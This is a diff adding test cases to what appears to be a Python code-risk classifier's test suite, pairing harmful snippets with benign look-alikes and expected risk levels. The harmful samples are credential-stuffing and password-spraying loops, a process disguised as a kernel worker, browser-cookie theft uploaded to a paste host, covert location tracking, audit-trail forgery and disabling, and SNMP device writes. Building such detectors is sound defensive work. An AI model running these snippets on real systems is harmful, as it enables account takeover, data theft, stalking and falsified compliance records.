@@ -7391,6 +7391,153 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "        print('ok', host)\n",
             S,
         ),
+        # holdout216-219 leftovers: stuffing through a pool map, disguised argv[0], attached browsers,
+        # generators, audit trails, SNMP writes
+        (
+            'import requests\n'
+            'from concurrent.futures import ThreadPoolExecutor\n'
+            'COMBOS = [l.strip().split(":", 1) for l in open("combo.txt") if ":" in l]\n'
+            'def attempt(combo):\n'
+            '    user, pwd = combo\n'
+            '    requests.post("https://shop.example.com/api/login", json={"email": user, "pa'
+            'ssword": pwd})\n'
+            'with ThreadPoolExecutor(max_workers=120) as ex:\n'
+            '    ex.map(attempt, COMBOS)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'from concurrent.futures import ThreadPoolExecutor\n'
+            'URLS = [l.strip() for l in open("urls.txt")]\n'
+            'def check(url):\n'
+            '    return requests.get(url, timeout=5).status_code\n'
+            'with ThreadPoolExecutor(max_workers=8) as ex:\n'
+            '    print(list(ex.map(check, URLS)))\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'BASE = "http://localhost:8000"\n'
+            'def test_lockout(user):\n'
+            '    s = requests.Session()\n'
+            '    for attempt in range(5):\n'
+            '        r = s.post(f"{BASE}/api/login", json={"email": user.email, "password": f'
+            '"wrong-{attempt}"})\n'
+            '        assert r.status_code == 401\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'BASE = "https://accounts.example.com"\n'
+            'for attempt in range(5000):\n'
+            '    requests.post(f"{BASE}/api/login", json={"email": "ceo@example.com", "passwo'
+            'rd": f"Spring{attempt}"})\n',
+            H,
+        ),
+        (
+            'import os, sys\n'
+            'if os.fork() > 0:\n'
+            '    sys.exit(0)\n'
+            'os.setsid()\n'
+            'os.execv(sys.executable, ["[kworker/u16:2-events]", "worker.py"])\n',
+            H,
+        ),
+        (
+            'import os, sys\n'
+            'os.execv(sys.executable, [sys.executable, "-m", "app"] + sys.argv[1:])\n',
+            L,
+        ),
+        (
+            'import json, requests\n'
+            'from playwright.sync_api import sync_playwright\n'
+            'ws = requests.get("http://127.0.0.1:9222/json/version").json()["webSocketDebugge'
+            'rUrl"]\n'
+            'with sync_playwright() as p:\n'
+            '    browser = p.chromium.connect_over_cdp(ws)\n'
+            '    jar = []\n'
+            '    for ctx in browser.contexts:\n'
+            '        jar += ctx.cookies()\n'
+            'requests.put("https://paste.example.net/api/upload", data=json.dumps(jar))\n',
+            C,
+        ),
+        (
+            'from playwright.sync_api import sync_playwright\n'
+            'with sync_playwright() as p:\n'
+            '    browser = p.chromium.launch()\n'
+            '    ctx = browser.new_context()\n'
+            '    page = ctx.new_page()\n'
+            '    page.goto("http://localhost:3000/login")\n'
+            '    print(len(ctx.cookies()))\n',
+            S,
+        ),
+        (
+            'import json, subprocess, urllib.request\n'
+            'def termux(*cmd):\n'
+            '    return json.loads(subprocess.check_output(cmd))\n'
+            'loc = termux("termux-location", "-p", "gps", "-r", "once")\n'
+            'urllib.request.urlopen(urllib.request.Request("https://track.example.app/api/pin'
+            'g", json.dumps({"lat": loc["latitude"]}).encode()))\n',
+            C,
+        ),
+        (
+            'import subprocess, requests\n'
+            'def bssids():\n'
+            '    out = subprocess.check_output(["nmcli", "-t", "-f", "BSSID", "dev", "wifi", '
+            '"list"], text=True)\n'
+            '    for line in out.splitlines():\n'
+            '        yield {"mac": line}\n'
+            'requests.post("https://presence.example.com/api", json={"w": list(bssids())})\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'def pages():\n'
+            '    for n in range(3):\n'
+            '        yield requests.get(f"https://api.example.com/items?page={n}").json()\n'
+            'for page in pages():\n'
+            '    print(len(page))\n',
+            L,
+        ),
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect(host="mes-db01", dbname="mes_prod").cursor()\n'
+            'cur.execute("UPDATE ebr_audit_trail SET signed_by = \'j.keller\', reason = \'Review'
+            'ed\' WHERE batch_id = %s AND signed_by IS NULL", ("B1",))\n',
+            H,
+        ),
+        (
+            'import sqlalchemy as sa\n'
+            'eng = sa.create_engine("postgresql://admin@db01/mes_prod")\n'
+            'with eng.begin() as c:\n'
+            '    c.execute(sa.text("UPDATE system_settings SET value=\'false\' WHERE key IN (\'a'
+            'udit_trail.enabled\',\'esig.require_second_signer\')"))\n',
+            H,
+        ),
+        (
+            'import sqlalchemy as sa\n'
+            'eng = sa.create_engine("postgresql://admin@db01/mes_prod")\n'
+            'with eng.begin() as c:\n'
+            '    c.execute(sa.text("UPDATE system_settings SET value=\'30\' WHERE key IN (\'sess'
+            'ion.timeout_minutes\')"))\n',
+            S,
+        ),
+        (
+            'from pysnmp.hlapi import CommunityData, ContextData, Integer, ObjectIdentity, Ob'
+            'jectType, SnmpEngine, UdpTransportTarget, setCmd\n'
+            'for ip in ("10.50.0.21", "10.50.0.22"):\n'
+            '    next(setCmd(SnmpEngine(), CommunityData("private"), UdpTransportTarget((ip, '
+            '161)), ContextData(), ObjectType(ObjectIdentity("1.3.6.1.4.1.21229.2.1.1.3.0"), '
+            'Integer(0))))\n',
+            H,
+        ),
+        (
+            'from pysnmp.hlapi import CommunityData, ContextData, ObjectIdentity, ObjectType,'
+            ' SnmpEngine, UdpTransportTarget, getCmd\n'
+            'print(next(getCmd(SnmpEngine(), CommunityData("public"), UdpTransportTarget(("10'
+            '.50.0.21", 161)), ContextData(), ObjectType(ObjectIdentity("1.3.6.1.2.1.1.3.0"))'
+            ')))\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
